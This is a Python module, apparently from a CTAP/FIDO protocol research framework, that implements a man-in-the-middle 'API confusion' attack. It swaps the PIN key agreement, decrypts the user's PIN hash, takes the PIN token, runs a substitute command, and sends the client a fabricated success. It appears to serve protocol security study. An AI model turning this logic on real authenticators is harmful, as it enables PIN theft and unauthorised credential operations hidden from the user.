"""The API-confusion MitM.

It sits on the pipeline while the user runs the flow for API A.  If A's flow
includes a PIN ceremony, it swaps the key agreement so it can read the PIN
hash, redoes GetPinToken itself and keeps the token.  When A's main request
arrives it runs the API B payload instead and answers the client with a
made-up success for A.
"""

from __future__ import annotations

import random
from collections import Counter

from ..actors import client as cl
from ..authenticator import pinproto
from ..codec import ClientPinSub, Command, CredMgmtSub, CtapRequest, CtapResponse, Status
from ..transports import Inject, MitmHook, Pass, Relay


class AttackerContext:
    def __init__(self, rng, token=None):
        self.rng = rng
        self.token = token
        self._counters = Counter()

    def counter(self, name: str) -> int:
        self._counters[name] += 1
        return self._counters[name]


def fabricate(req: CtapRequest) -> CtapResponse:
    """A plausible OK for API A that the attacker never actually ran."""
    cmd = req.command
    if cmd is Command.MAKE_CREDENTIAL:
        return CtapResponse(Status.OK, {1: "packed", 2: b"", 3: {}})
    if cmd is Command.GET_ASSERTION:
        return CtapResponse(Status.OK, {1: {"id": b"", "type": "public-key"}, 2: b"", 3: b""})
    if cmd is Command.CREDENTIAL_MANAGEMENT:
        if req.subcommand is CredMgmtSub.GET_CREDS_METADATA:
            return CtapResponse(Status.OK, {1: 0, 2: 0})
        if req.subcommand in (CredMgmtSub.ENUM_RPS_BEGIN, CredMgmtSub.ENUM_CREDS_BEGIN):
            return CtapResponse(Status.NO_CREDENTIALS)
        return CtapResponse(Status.OK)
    return CtapResponse(Status.OK)


class ConfusionHook(MitmHook):
    client_id = "attacker-device"

    def __init__(self, api_a: str, payload, rng=None, once: bool = True):
        self.api_a = api_a
        self.payload = payload
        self.ctx = AttackerContext(rng or random.Random(0))
        self.once = once
        self.fired = 0
        self.results: list = []
        self._fake_priv = None
        self._device_cose = None
        self.harvested_pin_hash = None

    @property
    def token(self):
        return self.ctx.token

    @property
    def result(self):
        return self.results[-1] if self.results else None

    def intercept(self, req: CtapRequest, pipeline):
        if req.command is Command.CLIENT_PIN:
            if req.subcommand is ClientPinSub.KEY_AGREEMENT:
                return Inject(self._swap_key_agreement(req))
            if req.subcommand is ClientPinSub.GET_PIN_TOKEN and self._fake_priv is not None:
                return Inject(self._harvest_token(req))
        if req.command.short == self.api_a and self.api_a != "CP":
            if self.fired and self.once:
                return Inject(self._fabricate_only(req))
            return Inject(self._confuse(req))
        return Pass()

    def _run_payload(self):
        self.fired += 1
        result = yield from self.payload(self.ctx)
        self.results.append(result)
        return result

    def _swap_key_agreement(self, req):
        resp = yield Relay(req)
        if not resp.ok:
            return resp
        self._device_cose = resp.payload[1]
        self._fake_priv = pinproto.private_key(pinproto.random_scalar(self.ctx.rng))
        fake = pinproto.cose_public(self._fake_priv.public_key(), pinproto.COSE_ECDH_ES_HKDF_256)
        return CtapResponse(Status.OK, {1: fake})

    def _harvest_token(self, req):
        p = req.params
        client_shared = pinproto.shared_secret(self._fake_priv, pinproto.public_from_cose(p[3]))
        self._fake_priv = None
        pin_hash = pinproto.decrypt(client_shared, p[6])
        self.harvested_pin_hash = pin_hash
        cose, shared = cl.platform_agreement(self.ctx.rng, self._device_cose)
        fwd_params = {1: 1, 3: cose, 6: pinproto.encrypt(shared, pin_hash)}
        if cl.SCOPE_KEY in p:
            fwd_params[cl.SCOPE_KEY] = p[cl.SCOPE_KEY]
        resp = yield CtapRequest.build(Command.CLIENT_PIN, fwd_params, ClientPinSub.GET_PIN_TOKEN)
        if not resp.ok:
            return resp
        self.ctx.token = pinproto.decrypt(shared, resp.payload[2])
        if self.api_a == "CP" and not (self.fired and self.once):
            yield from self._run_payload()
        return CtapResponse(Status.OK, {2: pinproto.encrypt(client_shared, self.ctx.token)})

    def _confuse(self, req):
        yield from self._run_payload()
        if req.command is Command.GET_INFO:
            # nothing to authorize, so the genuine answer costs the attacker nothing
            return (yield Relay(req))
        return fabricate(req)

    def _fabricate_only(self, req):
        if req.command is Command.GET_INFO:
            return (yield Relay(req))
        return fabricate(req)
        yield  # pragma: no cover - makes this a generator
